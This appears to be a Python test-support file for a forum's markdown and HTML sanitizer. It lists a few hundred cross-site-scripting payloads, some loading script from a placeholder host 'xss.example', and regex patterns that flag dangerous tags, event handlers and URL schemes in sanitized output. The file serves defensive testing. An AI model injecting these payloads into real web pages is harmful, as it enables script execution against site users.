# ruff: noqa: E501  (payloads are kept verbatim on one line each)
"""XSS payload corpus and output checks for the forum's rendering pipeline.

``XSS_VECTORS`` is a list of well-known cross-site-scripting payloads that
are fed through the user-content pipeline (markdown-it-py -> nh3) and through
the Jinja2 templates that autoescape titles and display names.

``DANGEROUS_PATTERNS`` is a list of lowercase regular expressions that must
NEVER match the *sanitized* HTML.  Apply them to the lowercased output, e.g.::

    low = html.lower()
    for pattern in DANGEROUS_PATTERNS:
        assert re.search(pattern, low) is None, (pattern, html)

The patterns are written for HTML as serialized by a sanitizer (nh3/ammonia
uses html5ever's serializer):

* text content always has ``<``/``>`` entity-escaped, so ``&lt;script&gt;``
  is harmless and never matches;
* attribute values are always double-quoted with ``"`` escaped as ``&quot;``,
  but ``<`` and ``>`` inside attribute values are *not* escaped, so a harmless
  ``alt="<img src=x onerror=alert(1)>"`` or ``title="&quot;><script>"`` must
  not be reported either.

To get both right, every pattern is anchored at the start of the document and
first walks over complete text characters and complete tags (with quoted
attribute values consumed whole) before looking for the dangerous construct.
A dangerous construct is therefore only reported when it is a real tag, a
real attribute name, or the value of a real URL/style attribute -- never when
it only appears as escaped text (``[a](javascript:alert(1))`` left as plain
text by markdown-it) or inside some other attribute's value.
"""

from __future__ import annotations

# ---------------------------------------------------------------------------
# XSS payloads
# ---------------------------------------------------------------------------

XSS_VECTORS: list[str] = [
    # --- OWASP XSS Filter Evasion Cheat Sheet: basic <script> and variants ---
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script>alert(String.fromCharCode(88,83,83))</script>",
    '<SCRIPT SRC="https://xss.example/xss.js"></SCRIPT>',
    "<SCRIPT SRC=//xss.example/.j>",
    '<SCRIPT/XSS SRC="http://xss.example/xss.js"></SCRIPT>',
    '<SCRIPT/SRC="http://xss.example/xss.js"></SCRIPT>',
    '<script type="text/javascript">alert(1)</script>',
    "<script type=module>alert(1)</script>",
    "<script\n>alert(1)</script\n>",
    "<script >alert(1)</script >",
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT SRC=http://xss.example/xss.js?< B >",
    "<SCRIPT SRC=//xss.example/.j",
    "<SCRIPT>a=/XSS/\nalert(a.source)</SCRIPT>",
    '<SCRIPT a=">" SRC="httx://xss.example/xss.js"></SCRIPT>',
    '<SCRIPT "a=\'>\'" SRC="httx://xss.example/xss.js"></SCRIPT>',
    "<script>/*</script><script>*/alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    # --- OWASP XSS Filter Evasion Cheat Sheet: attribute / context breakouts ---
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus x='",
    '" autofocus onfocus=alert(1) x="',
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</noscript><script>alert(1)</script>",
    "</template><script>alert(1)</script>",
    "</xmp><script>alert(1)</script>",
    "</iframe><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<? echo('<SCR)';echo('IPT>alert(1)</SCRIPT>'); ?>",
    # --- OWASP XSS Filter Evasion Cheat Sheet: javascript:/vbscript: URLs and encodings ---
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    "<a href=javascript:alert(1)>x</a>",
    '<a href="  javascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="javascript&#58;alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href="jav&#x0D;ascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="java\x00script:alert(1)">x</a>',
    '<a href=" &#14;  javascript:alert(1)">x</a>',
    '<a href="javascript%3Aalert(1)">x</a>',
    '<a href="%6A%61%76%61%73%63%72%69%70%74%3Aalert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="VBSCRIPT:MsgBox(&quot;XSS&quot;)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<IMG LOWSRC=\"javascript:alert('XSS')\">",
    "<IMG SRC='vbscript:msgbox(\"XSS\")'>",
    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<TD BACKGROUND=\"javascript:alert('XSS')\">",
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    '<form action="javascript:alert(1)"><input type=submit></form>',
    '<form><button formaction="javascript:alert(1)">x</button></form>',
    "<form><input type=submit formaction=javascript:alert(1) value=x></form>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<isindex action=javascript:alert(1) type=image>",
    # --- OWASP XSS Filter Evasion Cheat Sheet: event handlers ---
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x ONERROR=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror\t=alert(1)>",
    "<img src=x onerror\n=alert(1)>",
    '<img src="x" onerror="&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;">',
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    "<IMG onmouseover=\"alert('xxs')\">",
    "<BODY ONLOAD=alert('XSS')>",
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    "<body onpageshow=alert(1)>",
    "<body onhashchange=alert(1)><a href=#x>click</a>",
    "<iframe onload=alert(1)></iframe>",
    '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    '<embed src="javascript:alert(1)">',
    '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    '<embed code="https://xss.example/xss.swf" allowscriptaccess=always>',
    '<applet code="javascript:alert(1)"></applet>',
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    "<XSS STYLE=\"xss:expression(alert('XSS'))\">",
    '<span style="background:url(&quot;javascript:alert(1)&quot;)">x</span>',
    '<XSS STYLE="behavior: url(xss.htc);">',
    '<div style="-moz-binding:url(//xss.example/xss.xml#xss)">x</div>',
    "<STYLE>@import'http://xss.example/xss.css';</STYLE>",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<STYLE TYPE=\"text/javascript\">alert('XSS');</STYLE>",
    '<STYLE>BODY{-moz-binding:url("http://xss.example/xssmoz.xml#xss")}</STYLE>',
    '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
    '<link rel=import href="data:text/html,<script>alert(1)</script>">',
    '<link rel=import href="https://xss.example/xss.html">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
    '<META HTTP-EQUIV="refresh" CONTENT="0; URL=http://;URL=javascript:alert(\'XSS\');">',
    '<META HTTP-EQUIV="Set-Cookie" Content="USERID=<SCRIPT>alert(\'XSS\')</SCRIPT>">',
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    '<base href="https://xss.example/"><script src="/xss.js"></script>',
    '<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert(\'XSS\')"></B></I></XML>',
    '<HTML xmlns:xss><?import namespace="xss" implementation="http://xss.example/xss.htc"><xss:xss>XSS</xss:xss></HTML>',
    # --- PortSwigger XSS cheat sheet: event handlers on modern elements ---
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg onload=alert(1)//",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<input onblur=alert(1) autofocus><input autofocus>",
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<keygen autofocus onfocus=alert(1)>",
    "<button autofocus onfocus=alert(1)>x</button>",
    "<div tabindex=1 autofocus onfocus=alert(1)>x</div>",
    "<a id=x tabindex=1 onfocus=alert(1)></a>",
    "<details open ontoggle=alert(1)>",
    "<details ontoggle=alert(1) open><summary>x</summary></details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<marquee loop=1 width=0 onfinish=alert(1)>x</marquee>",
    "<video src=x onerror=alert(1)></video>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<video autoplay onplay=alert(1)><source src=x.mp4></video>",
    "<object onerror=alert(1)>",
    "<div onmouseover=alert(1)>hover me</div>",
    "<a onmouseover=alert(1) href=#>hover</a>",
    "<p onclick=alert(1)>click</p>",
    "<span onpointerenter=alert(1)>x</span>",
    "<div draggable=true ondragstart=alert(1)>drag</div>",
    "<style onload=alert(1)></style>",
    "<img src=1 onanimationstart=alert(1) style=animation-name:x>",
    "<form onsubmit=alert(1)><input type=submit></form>",
    "<form><button formaction=javascript:alert(1)>click</button></form>",
    "<form id=f></form><button form=f formaction=javascript:alert(1)>x</button>",
    '<a href="javascript:alert(1)" target=_blank>x</a>',
    "<a href=javascript:alert(1)>click</a>",
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<image src=x onerror=alert(1)>",
    "<img src=x onerror=alert`1`>",
    "<img src=x onerror=window['al'+'ert'](1)>",
    "<img src=x onerror=eval(atob('YWxlcnQoMSk='))>",
    "<img src=x onerror=&#x61;&#x6C;&#x65;&#x72;&#x74;&#x28;&#x31;&#x29;>",
    "<xss id=x tabindex=1 onfocusin=alert(1)></xss>",
    "<xss onbeforescriptexecute=alert(1)><script>1</script>",
    "<template><script>alert(1)</script></template>",
    "<noscript><img src=x onerror=alert(1)></noscript>",
    '<table background="javascript:alert(1)"></table>',
    # --- PortSwigger XSS cheat sheet / HTML5 Security Cheatsheet: SVG ---
    "<svg><script>alert(1)</script></svg>",
    '<svg><script href="data:text/javascript,alert(1)"/></svg>',
    '<svg><script xlink:href="data:text/javascript,alert(1)"></script></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><animate attributeName=href values=javascript:alert(1) /><a id=x><text x=20 y=20>click</text></a></svg>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>click</text></a></svg>",
    "<svg><set attributeName=href to=javascript:alert(1) /><a><text>click</text></a></svg>",
    "<svg><set onbegin=alert(1) attributename=x dur=1s>",
    '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>click</text></a></svg>',
    '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48aW1hZ2UgaHJlZj0neCcgb25lcnJvcj0nYWxlcnQoMSknLz48L3N2Zz4=#x"/></svg>',
    '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
    "<svg><image href=x onerror=alert(1) /></svg>",
    '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler></svg>',
    "<svg><style>@import'//xss.example/x.css'</style></svg>",
    "<svg><title><script>alert(1)</script></title></svg>",
    "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>",
    "<svg><p><style><img src=x onerror=alert(1)></style></p></svg>",
    # --- HTML5 Security Cheatsheet (html5sec.org): MathML and parser quirks ---
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '<math><mi xlink:href="javascript:alert(1)">click</mi></math>',
    '<math href="javascript:alert(1)">click</math>',
    '<math><maction actiontype="statusline#http://xss.example" xlink:href="javascript:alert(1)">click</maction></math>',
    '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=alert(1)>"></style></h1></mtext></math>',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<frameset onload=alert(1)>",
    "<video poster=javascript:alert(1)//></video>",
    "<input type=image formaction=javascript:alert(1) src=x>",
    '<a href="javascript:void(0)" onclick="alert(1)">x</a>',
    '<iframe src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></iframe>',
    '<object data="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"></object>',
    "<div id=\"x\"></div><script>document.getElementById('x').innerHTML='<img src=x onerror=alert(1)>'</script>",
    '<a href="#" xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="javascript:alert(1)">x</a>',
    "<!-- foo --!><img src=x onerror=alert(1)>-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<title><img src=</title><img src=x onerror=alert(1)>>",
    '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    '<iframe/src="data:text/html,<svg &#111;&#110;load=alert(1)>"></iframe>',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
    "<plaintext></plaintext><img src=x onerror=alert(1)>",
    '<div><a href="&#1;javascript:alert(1)">x</a></div>',
    '<portal src="javascript:alert(1)"></portal>',
    # --- Markdown-specific vectors (markdown-it-py link validation, raw HTML) ---
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](javascript&#58;alert(1))",
    "[a](javascript&#x3A;alert(1))",
    "[a](javascript&colon;alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](java\tscript:alert(1))",
    "[a](  javascript:alert(1)  )",
    "[a](<javascript:alert(1)>)",
    "[a](javascript%3Aalert(1))",
    "[a](vbscript:msgbox(1))",
    "[a](VBScript:MsgBox(1))",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[a](data:text/html,<script>alert(1)</script>)",
    "![x](javascript:alert(1))",
    "![x](JaVaScRiPt:alert(1))",
    "![x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '![x" onerror="alert(1)](https://example.com/a.png)',
    "![<img src=x onerror=alert(1)>](https://example.com/a.png)",
    "<javascript:alert(1)>",
    "<JavaScript:alert(1)>",
    "<vbscript:msgbox(1)>",
    "<data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>",
    "[a][1]\n\n[1]: javascript:alert(1)",
    '[a][xss]\n\n[xss]: JaVaScRiPt:alert(1) "title"',
    "![x][img]\n\n[img]: javascript:alert(1)",
    "[a][1]\n\n[1]: data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    '[a](https://example.com "title\\" onmouseover=\\"alert(1))',
    '[a](https://example.com "\\"><img src=x onerror=alert(1)>")',
    "[a](https://example.com '\"><script>alert(1)</script>')",
    '[a](https://example.com "x" onmouseover="alert(1)")',
    '[a][1]\n\n[1]: https://example.com "\\"><img src=x onerror=alert(1)>"',
    "[<img src=x onerror=alert(1)>](https://example.com)",
    '[a](https://example.com/"onmouseover="alert(1))',
    '[a](https://example.com/" onmouseover="alert(1)")',
    '[a](https://example.com?x="><script>alert(1)</script>)',
    "https://example.com/<script>alert(1)</script>",
    'www.example.com/"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    "<div>\n<script>alert(1)</script>\n</div>",
    '<div markdown="1">\n[a](javascript:alert(1))\n</div>',
    "<details open ontoggle=alert(1)>\n\n**bold**\n\n</details>",
    '<a href="javascript:alert(1)">\n\n*click*\n\n</a>',
    "<p>inline <img src=x onerror=alert(1)> html</p>",
    "text <img src=x onerror=alert(1)> more text",
    "`<script>alert(1)</script>`",
    "```html\n</code></pre><script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "``` onmouseover=alert(1)\ncode\n```",
    "    <script>alert(1)</script>",
    "> <img src=x onerror=alert(1)>",
    "* <svg onload=alert(1)>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "<!-- -->\n<img src=x onerror=alert(1)>",
    '**<a href="javascript:alert(1)">bold</a>**',
    '[a](javascript:alert(1) "title")',
    "[a]( javascript:alert(1) )",
    "[a](\x00javascript:alert(1))",
    "[a](\\javascript:alert(1))",
    "[a](javas\\cript:alert(1))",
    "[a](javascript://%0aalert(1))",
    "[a](javascript://example.com%0Aalert(1))",
    "[![x](https://example.com/a.png)](javascript:alert(1))",
    '<a href="[a](javascript:alert(1))">x</a>',
    "[a](https://example.com)<img src=x onerror=alert(1)>",
    "\\<script>alert(1)\\</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt; and <b onmouseover=alert(1)>b</b>",
    "click on=this and javascript: in prose is fine",
]


# ---------------------------------------------------------------------------
# Patterns that must never match sanitized (and lowercased) HTML
# ---------------------------------------------------------------------------

# Building blocks.  Everything is lowercase; apply to ``html.lower()``.
# Attribute separator: whitespace, or "/" (the HTML tokenizer skips it too).
_SEP = r"[\s/]+"
# Attribute name (HTML allows almost anything except space, "/", ">" and
# a non-leading "=").
_NAME = r"[^\s/>][^\s/>=]*"
# Attribute value: double-quoted, single-quoted or unquoted.
_VALUE = r"(?:\"[^\"]*\"|'[^']*'|[^\s\"'>][^\s>]*)"
# One complete attribute, with optional value.
_ATTR = _SEP + _NAME + r"(?:\s*=\s*" + _VALUE + r")?"
# One complete markup token: start/end tag, comment, doctype/cdata, or PI.
_TAG = (
    r"<(?:/?[a-z][^\s/>]*(?:" + _ATTR + r")*[\s/]*>"
    r"|!--(?:.|\n)*?-->|![^>]*>|\?[^>]*>)"
)
# Walk from the start of the document over text characters and whole tags
# (a "<" not followed by a letter, "/", "!" or "?" is text, as in HTML).
# Text in sanitizer output never contains a raw "<", so every "<" reached here
# is the start of a real tag (never escaped text, never inside a value).
_PRE = r"^(?:[^<]|<(?![a-z/!?])|" + _TAG + r")*?"
# Position at a real start tag's name.
_OPEN = _PRE + r"<"
# Position at the name of a real attribute of a real start tag.
_IN_TAG = _PRE + r"<[a-z][^\s/>]*(?:" + _ATTR + r")*?" + _SEP
# End of a tag name.
_END = r"(?=[\s/>])"
# Attributes whose value is fetched / navigated to as a URL.
_URL_ATTR = (
    r"(?:xlink:)?(?:href|src|action|formaction|data|poster|background|"
    r"lowsrc|dynsrc|codebase|code|cite|longdesc|usemap|manifest|srcset|"
    r"ping|archive|profile|classid|icon|values|to|from|by)"
)
# Start of a URL attribute's value: optional quote (or IE's backtick), then
# leading C0 control characters and spaces, which URL parsers strip.
_URL_VALUE = _URL_ATTR + r"\s*=\s*[\"'`]?[\x00-\x20]*"
# URL parsers also drop tab, LF and CR anywhere inside the scheme.
_NL = r"[\t\n\r]*"


def _scheme(name: str) -> str:
    """Regex for ``name:`` with optional tab/CR/LF between every character."""
    return _NL.join(name) + _NL + ":"


# Start of a style attribute value (matches anywhere inside that value).
_STYLE_VALUE = r"style\s*=\s*(?:\"[^\"]*?|'[^']*?|[^\s\"'>][^\s>]*?)"

DANGEROUS_PATTERNS: list[str] = [
    # Script execution elements.
    _OPEN + r"script" + _END,
    _OPEN + r"iframe" + _END,
    _OPEN + r"frame" + _END,
    _OPEN + r"frameset" + _END,
    _OPEN + r"object" + _END,
    _OPEN + r"embed" + _END,
    _OPEN + r"applet" + _END,
    _OPEN + r"portal" + _END,
    # Foreign content (SVG/MathML: own parsing rules, script, animate/set).
    _OPEN + r"svg" + _END,
    _OPEN + r"math" + _END,
    _OPEN + r"animate" + _END,
    _OPEN + r"set" + _END,
    _OPEN + r"foreignobject" + _END,
    _OPEN + r"handler" + _END,
    # Styling, document metadata and resource loading.
    _OPEN + r"style" + _END,
    _OPEN + r"meta" + _END,
    _OPEN + r"base" + _END,
    _OPEN + r"link" + _END,
    _OPEN + r"import" + _END,
    _OPEN + r"xml" + _END,
    # Forms and interactive controls (formaction, autofocus, clickjacking).
    _OPEN + r"form" + _END,
    _OPEN + r"input" + _END,
    _OPEN + r"button" + _END,
    _OPEN + r"textarea" + _END,
    _OPEN + r"select" + _END,
    _OPEN + r"isindex" + _END,
    _OPEN + r"keygen" + _END,
    # Raw-text / parser-confusion containers used for breakouts.
    _OPEN + r"template" + _END,
    _OPEN + r"noscript" + _END,
    _OPEN + r"xmp" + _END,
    _OPEN + r"plaintext" + _END,
    _OPEN + r"noembed" + _END,
    _OPEN + r"noframes" + _END,
    _OPEN + r"title" + _END,
    # Media elements with on* / poster / source tricks.
    _OPEN + r"video" + _END,
    _OPEN + r"audio" + _END,
    _OPEN + r"marquee" + _END,
    _OPEN + r"bgsound" + _END,
    # Event handler attributes on a real tag (onerror=, onload=, ...).
    _IN_TAG + r"on[a-z]+\s*=",
    # Attributes that embed or redirect documents/forms.
    _IN_TAG + r"srcdoc\s*=",
    _IN_TAG + r"formaction\s*=",
    _IN_TAG + r"http-equiv\s*=",
    # Dangerous URL schemes in URL-valued attributes.
    _IN_TAG + _URL_VALUE + _scheme("javascript"),
    _IN_TAG + _URL_VALUE + _scheme("vbscript"),
    _IN_TAG + _URL_VALUE + _scheme("livescript"),
    _IN_TAG + _URL_VALUE + _scheme("mocha"),
    _IN_TAG + _URL_VALUE + _scheme("data") + r"[\s]*text/html",
    _IN_TAG + _URL_VALUE + _scheme("data") + r"[\s]*application/xhtml",
    _IN_TAG + _URL_VALUE + _scheme("data") + r"[\s]*text/javascript",
    # Scriptable CSS in style attributes.
    _IN_TAG + _STYLE_VALUE + r"expression\s*\(",
    _IN_TAG
    + _STYLE_VALUE
    + r"url\s*\(\s*(?:[\"']|&quot;|&#0*39;|&apos;)?\s*"
    + _scheme("javascript"),
    _IN_TAG + _STYLE_VALUE + r"-moz-binding",
    _IN_TAG + _STYLE_VALUE + r"behavior\s*:",
]
